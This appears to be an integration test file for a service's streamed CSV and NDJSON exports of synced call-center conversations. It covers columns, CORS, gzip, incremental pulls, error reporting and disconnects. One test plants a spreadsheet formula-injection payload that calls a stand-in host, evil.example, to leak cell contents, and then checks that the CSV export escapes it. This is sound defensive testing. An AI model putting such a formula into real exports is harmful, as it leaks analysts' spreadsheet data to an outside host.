import { request } from 'node:http';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_SPECS } from '../../src/analytics/exports/exportKinds.ts';
import { WATERMARK_HEADER } from '../../src/analytics/exports/exportRoute.ts';
import { fromGlobalId } from '../../src/domain/globalId.ts';
import { parsePrometheusText, seriesOf } from '../observability/prometheusText.ts';
import { dropTestSchema, TEST_DATABASE_URL } from '../store/testDatabases.ts';
import { startLiveGateway, type LiveGateway } from '../sync/liveGateway.ts';
import { providerConversations } from './biFixtures.ts';
import { BULKY_CONVERSATIONS, seedBulkyConversations } from './bulkyConversations.ts';
import { parseCsv } from './csvParser.ts';

async function storeCount(gateway: LiveGateway, workspaceId: string, sql: string): Promise<number> {
  const { rows } = await gateway.runtime.live.database.query<{ n: number }>(
    `SELECT (${sql})::int AS n FROM synced_records r WHERE r.workspace_id = $1 AND r.kind = 'Conversation'`,
    [workspaceId],
  );
  return rows[0]?.n ?? -1;
}

describe('streamed exports of the synced store', () => {
  let gateway: LiveGateway;
  const get = (path: string, headers: Record<string, string> = {}, apiKey = 'demo-key') =>
    fetch(`${gateway.origin}${path}`, { headers: { authorization: `Bearer ${apiKey}`, ...headers } });

  beforeAll(async () => {
    gateway = await startLiveGateway();
    await gateway.runtime.live.sync.syncOnce();
  });
  afterAll(async () => {
    await gateway.close();
  });

  it('serves each export as RFC 4180 CSV with the documented columns and one row per record, in the workspace only', async () => {
    for (const [workspaceId, key] of [['demo', 'demo-key'], ['acme', 'acme-key']] as const) {
      const conversations = parseCsv(await (await get('/exports/conversations.csv', {}, key)).text());
      expect(conversations.header).toEqual(EXPORT_SPECS.conversations.columns);
      expect(conversations.rows.length).toBe(await storeCount(gateway, workspaceId, 'count(*)'));
      const stored = await gateway.runtime.live.database.query<{ provider: string; native_id: string }>(
        `SELECT provider, native_id FROM synced_records WHERE workspace_id = $1 AND kind = 'Conversation'`,
        [workspaceId],
      );
      expect(new Set(conversations.rows.map((row) => `${row.provider}:${row.native_id}`))).toEqual(new Set(stored.rows.map((row) => `${row.provider}:${row.native_id}`)));
      expect(conversations.rows.every((row) => fromGlobalId(row.conversation_id ?? '')?.nativeId === row.native_id)).toBe(true);
      expect(conversations.rows.every((row) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/.test(row.created_at ?? ''))).toBe(true);

      const lines = parseCsv(await (await get('/exports/cost-lines.csv', {}, key)).text());
      expect(lines.header).toEqual(EXPORT_SPECS['cost-lines'].columns);
      expect(lines.rows.length).toBe(await storeCount(gateway, workspaceId, `coalesce(sum(jsonb_array_length(r.record->'cost'->'components')), 0)`));
      const messages = parseCsv(await (await get('/exports/transcript-messages.csv', {}, key)).text());
      expect(messages.header).toEqual(EXPORT_SPECS['transcript-messages'].columns);
      expect(messages.rows.length).toBe(await storeCount(gateway, workspaceId, `coalesce(sum(jsonb_array_length(r.record->'transcript'->'messages')), 0)`));
    }
    // The demo data has lines and messages at all, so the counts above mean something.
    expect(await storeCount(gateway, 'demo', `coalesce(sum(jsonb_array_length(r.record->'cost'->'components')), 0)`)).toBeGreaterThan(0);
  });

  it("answers a browser page's export with Vary: Origin kept, and lets the page read the watermark", async () => {
    // The export's own Vary replaced the CORS policy's (a cache could hand one origin's answer to
    // another), and the watermark was not exposed, so a page could not pull incrementally (an operator trial).
    for (const method of ['GET', 'HEAD']) {
      const answer = await fetch(`${gateway.origin}/exports/conversations.csv`, { method, headers: { authorization: 'Bearer demo-key', origin: 'http://localhost:3000' } });
      expect(answer.status).toBe(200);
      expect(answer.headers.get('vary')).toBe('Origin, Accept, Accept-Encoding');
      expect(answer.headers.get('access-control-allow-origin')).toBe('http://localhost:3000');
      expect(answer.headers.get('access-control-expose-headers')?.split(', ')).toContain(WATERMARK_HEADER);
      expect(answer.headers.get(WATERMARK_HEADER)).toMatch(/^\d+$/);
      await answer.arrayBuffer();
    }
  });

  it('exports cost amounts as the exact decimal text the provider reported', async () => {
    const voiceos = gateway.runtime.registry.get('demo')?.connectors.get('VOICEOS');
    if (!voiceos) throw new Error('demo has VOICEOS');
    const expected = (await providerConversations(voiceos))
      .flatMap((conversation) => (conversation.cost?.components ?? []).map((component, index) => `${conversation.nativeId}#${index + 1}=${component.amount?.toString() ?? ''}`))
      .sort();
    const lines = parseCsv(await (await get('/exports/cost-lines.csv?providers=VOICEOS')).text());
    expect(lines.rows.map((row) => `${row.conversation_native_id}#${row.line}=${row.amount}`).sort()).toEqual(expected);
  });

  it('chooses NDJSON by extension or Accept, and gzips when asked', async () => {
    const byAccept = await get('/exports/conversations', { accept: 'application/x-ndjson' });
    expect(byAccept.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const records = (await byAccept.text()).trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(records.length).toBe(await storeCount(gateway, 'demo', 'count(*)'));
    expect(Object.keys(records[0] ?? {})).toEqual(EXPORT_SPECS.conversations.columns);
    expect((await (await get('/exports/conversations.ndjson')).text()).split('\n')[0]).toMatch(/^\{"conversation_id":/);

    const raw = await new Promise<{ encoding: string | undefined; body: Buffer }>((resolve, reject) => {
      const req = request(`${gateway.origin}/exports/conversations.csv?providers=TRATA`, { headers: { authorization: 'Bearer demo-key', 'accept-encoding': 'gzip' } }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => resolve({ encoding: res.headers['content-encoding'], body: Buffer.concat(chunks) }));
      });
      req.on('error', reject);
      req.end();
    });
    expect(raw.encoding).toBe('gzip');
    const trata = parseCsv(gunzipSync(raw.body).toString('utf8'));
    expect(trata.rows.length).toBe(await storeCount(gateway, 'demo', `count(*) FILTER (WHERE r.provider = 'TRATA')`));
    expect(new Set(trata.rows.map((row) => row.provider))).toEqual(new Set(['TRATA']));
  });

  it('refuses a bad key, an unknown parameter and a bad value, naming it', async () => {
    expect((await get('/exports/conversations.csv', {}, 'wrong')).status).toBe(401);
    const unknown = await get('/exports/conversations.csv?provider=VOICEOS');
    expect(unknown.status).toBe(400);
    expect(await unknown.json()).toMatchObject({ errors: [{ extensions: { code: 'BAD_USER_INPUT', parameter: 'provider' } }] });
    const badEnum = await get('/exports/conversations.csv?statuses=DONE');
    expect(await badEnum.json()).toMatchObject({ errors: [{ extensions: { code: 'BAD_USER_INPUT', parameter: 'statuses' } }] });
    expect((await get('/exports/everything.csv')).status).toBe(404);
  });

  it('pulls incrementally with updatedSince: a change after the watermark comes in the next pull exactly once', async () => {
    const first = await get('/exports/conversations.csv');
    const watermark = first.headers.get(WATERMARK_HEADER) ?? '';
    const all = parseCsv(await first.text()).rows;
    expect(all.length).toBeGreaterThan(0);
    expect(all.every((row) => BigInt(row.change_seq ?? '') <= BigInt(watermark))).toBe(true);

    // A change between the pulls: one stored conversation gets a new version.
    const voiceos = gateway.runtime.registry.get('demo')?.connectors.get('VOICEOS');
    if (!voiceos) throw new Error('demo has VOICEOS');
    const [target] = await providerConversations(voiceos);
    if (!target) throw new Error('VoiceOS has conversations');
    expect(await gateway.runtime.live.writer.writeConversations('demo', 'VOICEOS', [{ ...target, summary: `${target.summary ?? ''} (edited)` }])).toBe(1);

    const second = await get(`/exports/conversations.csv?updatedSince=${watermark}`);
    const changed = parseCsv(await second.text()).rows;
    expect(changed.map((row) => [row.provider, row.native_id, row.summary])).toEqual([['VOICEOS', target.nativeId, `${target.summary ?? ''} (edited)`]]);
    const nextWatermark = second.headers.get(WATERMARK_HEADER) ?? '';
    expect(BigInt(nextWatermark) > BigInt(watermark)).toBe(true);

    const third = parseCsv(await (await get(`/exports/conversations.csv?updatedSince=${nextWatermark}`)).text());
    expect(third.header).toEqual(EXPORT_SPECS.conversations.columns);
    expect(third.rows).toEqual([]);
  });

  it('reports one end for every export that took a slot: a HEAD, and one whose store fails before its first byte', async () => {
    const ends = () => gateway.logLines.filter((line) => line.includes('"message":"export"')).map((line) => JSON.parse(line) as Record<string, unknown>);
    const scrape = async (name: string) => seriesOf(parsePrometheusText(await (await fetch(`${gateway.origin}/metrics`)).text()), name);
    const before = ends().length;
    const finishedBefore = await scrape('switchboard_exports_finished_total');
    const head = await fetch(`${gateway.origin}/exports/cost-lines.csv`, { method: 'HEAD', headers: { authorization: 'Bearer demo-key' } });
    expect(head.status).toBe(200);
    // The watermark is read from this sequence before anything is sent: without it the store fails there.
    await gateway.runtime.live.database.exec('ALTER SEQUENCE synced_records_change_seq RENAME TO synced_records_change_seq_away');
    let failed: Response;
    try {
      failed = await get('/exports/conversations.ndjson');
    } finally {
      await gateway.runtime.live.database.exec('ALTER SEQUENCE synced_records_change_seq_away RENAME TO synced_records_change_seq');
    }
    expect(failed.status).toBe(500);
    expect(await failed.json()).toEqual({ errors: [{ message: 'Internal server error', extensions: { code: 'INTERNAL_SERVER_ERROR' } }] });
    // What the 500 does not say is in the log (a route's 500 left only its access line, an outside trial).
    const unexpected = gateway.logLines.map((line) => JSON.parse(line) as Record<string, unknown>).filter((line) => line.message === 'unexpected error while answering a request');
    expect(unexpected.map((line) => [line.level, line.reason])).toEqual([['error', expect.stringContaining('synced_records_change_seq')]]);
    // The workspace under the access line's own name, so one log query by workspace finds both lines.
    expect(ends().slice(before).map(({ kind, workspace, rows, outcome, level }) => ({ kind, workspace, rows, outcome, level }))).toEqual([
      { kind: 'cost-lines', workspace: 'demo', rows: 0, outcome: 'complete', level: 'info' },
      { kind: 'conversations', workspace: 'demo', rows: 0, outcome: 'failed', level: 'info' },
    ]);
    // Each end names its request's id, so it joins its "http request" line (an outside trial could not).
    expect(ends().slice(before).map((end) => end.requestId)).toEqual([head.headers.get('x-request-id'), failed.headers.get('x-request-id')]);
    expect(head.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
    expect(gateway.runtime.gateway.exportSlots?.inUse()).toBe(0);
    // The metrics count both ends, and neither is left running.
    const finishedAfter = await scrape('switchboard_exports_finished_total');
    const counted = Object.fromEntries(Object.entries(finishedAfter).flatMap(([series, value]) => (value === finishedBefore[series] ? [] : [[series, value - (finishedBefore[series] ?? 0)]])));
    expect(counted).toEqual({ 'kind=cost-lines,outcome=complete': 1, 'kind=conversations,outcome=failed': 1 });
    expect(await scrape('switchboard_exports_in_progress')).toEqual({ 'kind=conversations': 0, 'kind=cost-lines': 0, 'kind=transcript-messages': 0 });
  });

  it('answers 500 with an error body when the store fails on the first rows, in CSV and NDJSON, gzipped or not', async () => {
    // The rows' query fails after the watermark was read: the 200 head used to be written first
    // (with the CSV header line), so the client got a 200 cut off with no word of what failed.
    const ends = () => gateway.logLines.filter((line) => line.includes('"message":"export"')).map((line) => JSON.parse(line) as Record<string, unknown>);
    const before = ends().length;
    await gateway.runtime.live.database.exec('ALTER TABLE synced_records RENAME COLUMN sentiment TO sentiment_away');
    const answers: [number, unknown][] = [];
    try {
      for (const [path, headers] of [
        ['/exports/conversations.csv', {}],
        ['/exports/conversations.ndjson', {}],
        ['/exports/conversations.csv', { 'accept-encoding': 'gzip' }],
      ] as const) {
        const failed = await get(path, headers);
        answers.push([failed.status, await failed.json()]);
      }
    } finally {
      await gateway.runtime.live.database.exec('ALTER TABLE synced_records RENAME COLUMN sentiment_away TO sentiment');
    }
    const internal = { errors: [{ message: 'Internal server error', extensions: { code: 'INTERNAL_SERVER_ERROR' } }] };
    expect(answers).toEqual([
      [500, internal],
      [500, internal],
      [500, internal],
    ]);
    expect(ends().slice(before).map(({ outcome, rows }) => ({ outcome, rows }))).toEqual([
      { outcome: 'failed', rows: 0 },
      { outcome: 'failed', rows: 0 },
      { outcome: 'failed', rows: 0 },
    ]);
    expect(gateway.runtime.gateway.exportSlots?.inUse()).toBe(0);
    // The same export afterwards is whole again.
    const whole = parseCsv(await (await get('/exports/conversations.csv')).text());
    expect(whole.rows.length).toBe(await storeCount(gateway, 'demo', 'count(*)'));
  });

  it('writes a provider\'s text that a spreadsheet would run as a formula with a leading quote in CSV, as sent in NDJSON, and numbers as they are', async () => {
    // A caller's words reach a summary or a transcript: this one, exported verbatim, ran as a
    // formula in the analyst's spreadsheet (a security trial).
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const workspace = gateway.demo.workspaces.find((each) => each.id === 'demo')!;
    const trata = workspace.providers.trata!;
    const agents = (await (await fetch(`${trata.baseUrl}/v1/agents?page=1&limit=1`, { headers: { authorization: `Bearer ${trata.token}` } })).json()) as { data: { id: string }[] };
    const created = await fetch(`${trata.baseUrl}/v1/conversations`, {
      method: 'POST',
      headers: { authorization: `Bearer ${trata.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ sourceType: 'phone', agentId: agents.data[0]!.id, transcriptSummary: formula }),
    });
    expect(created.status).toBe(200);
    await gateway.runtime.live.sync.syncOnce();
    // NDJSON keeps the text as sent (its readers are programs); the create's answer names no id, its text does.
    const ndjson = (await (await get('/exports/conversations.ndjson?providers=TRATA')).text()).trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    const planted = ndjson.filter((each) => each.summary === formula);
    expect(planted).toHaveLength(1);
    const csv = parseCsv(await (await get('/exports/conversations.csv?providers=TRATA')).text());
    expect(csv.rows.find((each) => each.native_id === planted[0]!.native_id)?.summary).toBe(`'${formula}`);
    // Numbers (a negative amount, an E.164 number) are not formulas to any spreadsheet: left as they are.
    expect(csv.rows.filter((each) => each.from_number?.startsWith("'") || each.to_number?.startsWith("'") || each.cost_total?.startsWith("'"))).toEqual([]);
  });

  it('quotes a cell holding a line break of any kind in CSV, so every row keeps its columns', async () => {
    // A bare \n or \r was written unquoted (csv-stringify quotes only the whole record delimiter,
    // \r\n): a reader split the row and shifted every later column (a BI trial).
    const summary = `line1\nline2\rline3 ${Date.now()}`;
    const said = 'one\rtwo\nthree';
    const trata = gateway.runtime.registry.get('demo')?.connectors.get('TRATA');
    if (!trata) throw new Error('demo has TRATA');
    const target = (await providerConversations(trata)).find((each) => (each.transcript?.messages.length ?? 0) > 0);
    if (!target?.transcript) throw new Error('Trata has a conversation with messages');
    const [first, ...rest] = target.transcript.messages;
    const transcript = { ...target.transcript, messages: [{ ...first!, text: said }, ...rest] };
    expect(await gateway.runtime.live.writer.writeConversations('demo', 'TRATA', [{ ...target, summary, transcript }])).toBe(1);
    for (const [kind, column, text] of [['conversations', 'summary', summary], ['transcript-messages', 'text', said]] as const) {
      const ndjson = (await (await get(`/exports/${kind}.ndjson?providers=TRATA`)).text()).trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
      const csv = parseCsv(await (await get(`/exports/${kind}.csv?providers=TRATA`)).text());
      expect(csv.rows.length).toBe(ndjson.length);
      expect(csv.rows.filter((row) => row[column] === text)).toHaveLength(1);
      expect(csv.rows.map((row) => row.change_seq)).toEqual(ndjson.map((row) => row.change_seq));
    }
  });
});

/** Reads the first bytes of an export, then hangs up; resolves once the gateway reports the export's end. */
async function abandonExport(gateway: LiveGateway, path: string): Promise<Record<string, unknown>> {
  await new Promise<void>((resolve, reject) => {
    const req = request(`${gateway.origin}${path}`, { headers: { authorization: 'Bearer demo-key' } }, (res) => {
      res.once('data', () => {
        req.destroy();
        resolve();
      });
    });
    req.on('error', (error) => (req.destroyed ? resolve() : reject(error)));
    req.end();
  });
  for (let waited = 0; waited < 10_000; waited += 20) {
    const line = gateway.logLines.find((each) => each.includes('"message":"export"'));
    if (line) return JSON.parse(line) as Record<string, unknown>;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  throw new Error('the export never ended');
}

const stores: [string, () => { store?: { databaseUrl: string; schema: string }; cleanup: () => Promise<void> }][] = [
  ['PGlite (keyset batches)', () => ({ cleanup: async () => {} })],
];
if (TEST_DATABASE_URL) {
  stores.push(['PostgreSQL (server-side cursor)', () => {
    const schema = `sb_bi_${Math.random().toString(36).slice(2, 10)}`;
    return { store: { databaseUrl: TEST_DATABASE_URL, schema }, cleanup: () => dropTestSchema(schema) };
  }]);
}

describe.each(stores)('an export whose client disconnects, on %s', (_name, make) => {
  it('stops reading the store: the export ends as aborted with only part of the rows read', async () => {
    const setup = make();
    const gateway = await startLiveGateway(setup.store ? { store: setup.store } : {});
    try {
      // Far more bytes than the socket's buffers hold, so the export is still running when the client
      // hangs up (see bulkyConversations.ts).
      const total = BULKY_CONVERSATIONS;
      await seedBulkyConversations(gateway.runtime.live.database, 'demo');
      const end = await abandonExport(gateway, '/exports/conversations.csv');
      expect(end.outcome).toBe('aborted');
      expect(end.rows as number).toBeLessThan(total);
      if (setup.store) {
        // PostgreSQL: no session is still inside the export's cursor transaction on this test's own
        // table (its lock names it: another suite's export on the same server is not this one).
        const { rows } = await gateway.runtime.live.database.query<{ n: number }>(
          `SELECT count(DISTINCT a.pid)::int AS n FROM pg_stat_activity a JOIN pg_locks l ON l.pid = a.pid
            WHERE l.relation = to_regclass($1) AND a.query LIKE '%switchboard_export%' AND a.state <> 'idle' AND a.pid <> pg_backend_pid()`,
          [`${setup.store.schema}.synced_records`],
        );
        expect(rows).toEqual([{ n: 0 }]);
      }
    } finally {
      await gateway.close();
      await setup.cleanup();
    }
  }, 120_000);
});
